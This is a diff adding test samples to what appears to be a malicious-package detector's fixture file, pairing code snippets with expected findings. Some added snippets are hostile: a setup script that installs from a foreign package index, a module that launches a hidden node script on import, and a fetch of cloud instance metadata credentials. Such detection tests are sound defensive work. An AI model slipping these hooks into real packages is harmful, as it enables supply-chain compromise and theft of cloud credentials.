@@ -11,6 +11,27 @@ const COMMAND = (body: string): string =>
 export const samples: Samples = {
   malicious: [
     {
+      name: 'another index that a setup script names',
+      files: sdist(
+        "import os\nfrom setuptools import setup\nos.system('pip install --index-url https://index.weir.test/simple other')\nsetup(name='own')\n",
+      ),
+      expected: at('package-install', 'high', 3),
+    },
+    {
+      name: 'another runtime when the module is loaded',
+      files: wheel(
+        "import os, subprocess\nsubprocess.Popen(['node', os.path.join(os.path.dirname(__file__), 'own.js')])\n",
+      ),
+      expected: at('program', 'high', 2, 'own/__init__.py'),
+    },
+    {
+      name: 'the keys that a cloud gives its machines',
+      files: wheel(
+        "import requests\nKEYS = requests.get('http://169.254.169.254/latest/meta-data/iam/').text\n",
+      ),
+      expected: at('request', 'high', 2, 'own/__init__.py'),
+    },
+    {
       name: 'an archive that a module installs by its address',
       files: wheel(
         'import os, sys\nos.system(f"{sys.executable} -m pip install https://files.weir.test/a/own-1.0.tar.gz")\n',
@@ -78,6 +99,10 @@ export const samples: Samples = {
     },
   ],
   benign: [
+    quiet(
+      'another runtime that a function starts',
+      wheel("import subprocess\ndef check(path):\n    return subprocess.run(['node', '--check', path])\n"),
+    ),
     quiet(
       'a server that a function starts for itself',
       wheel(
